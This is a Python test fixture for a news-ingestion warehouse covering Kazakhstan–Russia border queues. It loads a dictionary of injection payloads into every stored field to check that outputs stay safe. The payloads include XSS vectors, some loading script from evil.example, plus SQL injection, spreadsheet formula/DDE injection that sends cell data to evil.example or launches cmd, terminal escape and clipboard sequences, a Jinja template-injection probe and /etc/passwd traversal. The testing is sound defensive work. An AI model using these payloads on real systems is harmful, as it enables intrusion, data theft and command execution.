"""Thirty and more hostile strings, and a home in which they stand wherever the web can put words."""

import html
import json
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from ingest.collect_replay import collect_replay
from ingest.document import Document
from ingest.fetch_record import Fetch
from ingest.source import Source
from ingest.source import load_sources as load_file
from ingest.spool import read_spool
from kezek import steps
from kezek.settings import Settings
from nlp.annotation import Annotation, Claim, Entity, Mention, Observation
from tests.warehouse.world import DAY, SOURCES, covered, day, document, failure, fetch, gone
from warehouse.connection import Warehouse, open_warehouse
from warehouse.load import load_annotations, load_readings, load_sources
from warehouse.quality import Finding, record
from warehouse.reading import Reading
from warehouse.state import unannotated

ESCAPE, BELL = "\x1b", "\x07"
PAYLOADS = {
    "script": "<script>pwn(1)</script>",
    "breakout": '"></a></td></table><script src=//evil.example/x.js></script>',
    "single quote": "'><svg/onload=pwn(2)>",
    "image": "<img src=x onerror=pwn(3)>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg'><animate onbegin=pwn(4) attributeName=x></svg>",
    "attribute": 'x" onmouseover="pwn(5)" autofocus onfocus="pwn(6)',
    "frame": "<iframe srcdoc='<script>pwn(7)</script>'></iframe>",
    "form": "<form action=https://evil.example><button formaction=javascript:pwn(8)>Go</button></form>",
    "base": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style": "</style><style>body{background:url(https://evil.example/s)}</style>",
    "template": "</template></noscript></textarea></title><script>pwn(9)</script>",
    "entities": "&lt;script&gt;pwn(10)&lt;/script&gt; &#x3c;b&#x3e;",
    "comment": "<!--><script>pwn(11)</script>-->]]>",
    "javascript": "javascript:pwn(12)//https://ok.example",
    "javascript, split": "java\tscript:pwn(13)",
    "data": "data:text/html;base64,PHNjcmlwdD5wd24oMTQpPC9zY3JpcHQ+",
    "json": '</script><script>pwn(15)</script>{"a":"\\u003c"}',
    "sql": "'; DROP TABLE claims; --",
    "sql, double": '" OR ""=" UNION SELECT * FROM sources --',
    "dollars": "$$ $tag$ $1 ? :name %(name)s",
    "printf": "%s%n%d %%(x)s {0} {} {name!r}",
    "like": "100%_\\%\\_",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "dde": "=cmd|' /C calc'!A0",
    "dde, plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full width": "\uff1d1\uff0b1",
    "csv": 'a","b\r\n=1+1,"c\n;=2+2',
    "colours": f"{ESCAPE}[31mred{ESCAPE}[2J{ESCAPE}[1;1H",
    "title of the terminal": f"{ESCAPE}]0;pwn{BELL}",
    "link of the terminal": f"{ESCAPE}]8;;https://evil.example{ESCAPE}\\click{ESCAPE}]8;;{ESCAPE}\\",
    "clipboard": f"{ESCAPE}]52;c;cHduCg=={BELL}",
    "eight bit": "\x9b31m\x9d0;pwn\x9c\x90\x85",
    "bidi": "invoice\u202egpj.exe\u2066\u2069\u200f",
    "nul": "a\x00b\x00",
    "jinja": "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "vega": "'+pwn(16)+' datum[\"x\"] ${pwn(17)} \\'); pwn(18); //",
    "path": "../../../../etc/passwd\\..\\..\\boot.ini",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] [/bold] [@click=app.quit]z[/]",
    "markdown": "[x](javascript:pwn(19)) | a | b `c` \n| --- |",
    "toml": '"""\n[[entity]]\nid = \'evil\'\n"""',
    "long": "очень " * 500,
}
LONE_SURROGATE = "a\ud800b\udfff"
REPLAYED = "https://delovoy-shelk.example/replayed/"
SOURCES_TOML = """
[[source]]
id = "shelk"
name = "Деловой шёлк"
kind = "outlet"
side = "KZ"
country = "KZ"
languages = ["ru"]
home = "https://delovoy-shelk.example/"
feeds = ["https://delovoy-shelk.example/rss"]
parser = "generic"
timezone = "Asia/Almaty"
"""
_PAGE = """<!DOCTYPE html><html lang="ru"><head><title>{title}</title><meta property="og:title" content="{title}">
<meta property="article:published_time" content="2025-10-01T10:00:00+05:00"></head>
<body><article><h1>{title}</h1><p>Очередь на границе растёт третий день, водители ждут на Сырыме.</p>
<p>Минтранс Казахстана заявил, что {payload} виноваты проверки России, и на Сырыме стоят семьсот фур с урожаем.</p>
<p>Водители рассказывают, что стоят по несколько суток и что очередь почти не движется.</p></article></body></html>"""


def hostile_home(folder: Path) -> Settings:
    """A home that was filled as a night fills it: pages replayed and parsed, rows loaded, findings kept, all published."""
    (folder / "sources.toml").write_text(SOURCES_TOML, encoding="utf-8")
    settings = Settings.from_environment(
        {"KEZEK_HOME": str(folder / "home"), "KEZEK_SOURCES": str(folder / "sources.toml")}
    )
    _replay(settings, folder / "saved")
    with open_warehouse(settings.warehouse) as warehouse:
        load_hostile(warehouse, PAYLOADS)
    steps.publish_now(settings)
    with open_warehouse(settings.warehouse) as warehouse:
        odd = [Finding("date", "documents", payload, payload, False) for payload in PAYLOADS.values()]
        record(warehouse, odd, day(9))
    return settings


def load_hostile(warehouse: Warehouse, payloads: dict[str, str]) -> None:
    """Every payload as title, text, name, role, address, place, cause, pattern, reason and error; asserted, then denied."""
    numbered = list(enumerate(payloads.values()))
    load_sources(warehouse, [_source(number, payload) for number, payload in numbered])
    pages = [[_page(number, payload, at) for at in (1, 2)] for number, payload in numbered]
    load_readings(
        warehouse,
        fetches=[made for number, payload in numbered for made in _fetches(number, payload)],
        readings=[Reading(page, day(at)) for both in pages for at, page in enumerate(both, 1)],
        coverage=[
            covered(source_id=f"s{number}", stop_reason=payload, complete=False, gap_from=DAY, gap_to=day(1))
            for number, payload in numbered
        ],
        unparsed=[
            replace(failure(payload, f"f-{number}-1"), source_id=f"s{number}", error=payload, error_class=payload)
            for number, payload in numbered
        ],
    )
    dead = zip(pages, payloads.values(), strict=True)
    load_readings(warehouse, gone=[replace(gone(both[1].document_id, day(3)), reason=words) for both, words in dead])
    readings = [
        _reading(page, payload, stance)
        for both, payload in zip(pages, payloads.values(), strict=True)
        for page, stance in zip(both, ("asserts", "denies"), strict=True)
    ]
    load_annotations(warehouse, readings, day(4))


def _fetches(number: int, payload: str) -> list[Fetch]:
    """Two that worked, one that did not."""
    sights = [
        replace(fetch(f"{number}-{at}", day(at), f"s{number}"), url=payload, final_url=payload, content_type=payload)
        for at in (0, 1, 2)
    ]
    return [replace(sights[0], status=None, error=payload, sha256=None, warc_file=None, warc_offset=None), *sights[1:]]


def _source(number: int, payload: str) -> Source:
    return SOURCES[0].model_copy(update={"id": f"s{number}", "name": payload, "affiliation": payload, "home": payload})


def _page(number: int, payload: str, at: int) -> Document:
    return document(
        f"{number}-{at}",
        source_id=f"s{number}",
        title=payload,
        text=f"{payload} Очередь на границе. {payload}, виноваты проверки России.\n{payload}",
        url=payload if at == 1 else f"https://delovoy-shelk.example/{payload}",
        canonical_url=payload,
        author=payload,
        forwarded_from=payload,
        forwarded_url=payload,
        reply_to_url=payload,
        links=(payload,),
        media=(payload,),
        media_urls=(payload,),
        published_at=DAY + timedelta(days=at - 1, hours=9),
        fetch_id=f"f-{number}-{at}",
        extractor=payload,
        extractor_version=payload,
    )


def _reading(page: Document, payload: str, stance: str, cause: str | None = None) -> Annotation:
    end = len(page.text)
    said = Claim(
        cause=cause or payload,
        stance="denies" if stance == "denies" else "asserts",
        blames="RU",
        speaker=payload,
        speaker_kind="organisation",
        speaker_side="KZ",
        hedged=False,
        evidence=page.text,
        evidence_field="text",
        evidence_start=0,
        evidence_end=end,
        cause_text=page.text,
        cause_start=0,
        cause_end=end,
        speaker_role=payload,
        relayed_by=payload,
        confidence=0.5,
        pattern=payload,
    )
    titled = replace(
        said,
        stance="asserts",
        evidence=page.title,
        evidence_field="title",
        evidence_end=len(page.title),
        cause_text=page.title,
        cause_end=len(page.title),
        cause="weather",
    )
    measured = Observation("vehicles", 7, 9, payload, payload, page.text, "text", 0, end)
    name = f"Альянс {payload}"  # what a source is called is proposed to no curator
    named = Mention(name, "ORG", page.title, "title", 0, len(page.title), role=payload)
    return Annotation(
        document_id=page.document_id,
        content_sha256=page.content_sha256,
        lang="ru",
        model_version="m1",
        claims=(said, titled),
        observations=(measured,),
        entities=(Entity(name, "ORG", None, "KZ", payload),),
        mentions=(named,),
    )


def _replay(settings: Settings, saved: Path) -> None:
    """Each payload in the title and the words of a page, read again from a folder as if the web had sent it."""
    saved.mkdir()
    lines = []
    for number, payload in enumerate(PAYLOADS.values()):
        escaped = html.escape(payload)
        (saved / f"{number}.html").write_text(_PAGE.format(title=escaped, payload=escaped), encoding="utf-8")
        line = {"file": f"{number}.html", "url": f"{REPLAYED}{number}", "content_type": "text/html; charset=utf-8"}
        lines.append(json.dumps({**line, "fetched_at": "2025-10-01T12:00:00Z"}))
    (saved / "manifest.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    known = load_file(settings.sources)
    spool = saved / "spool.jsonl"
    collect_replay(saved, known, settings.archive, "replay/saved", spool)
    with open_warehouse(settings.warehouse) as warehouse:
        load_sources(warehouse, known.values())
        steps.load_spools(warehouse, [read_spool(spool)])
        pages = unannotated(warehouse, "m1")
        load_annotations(warehouse, [_reading(page, "Минтранс", "asserts", "weather") for page in pages], day(2))
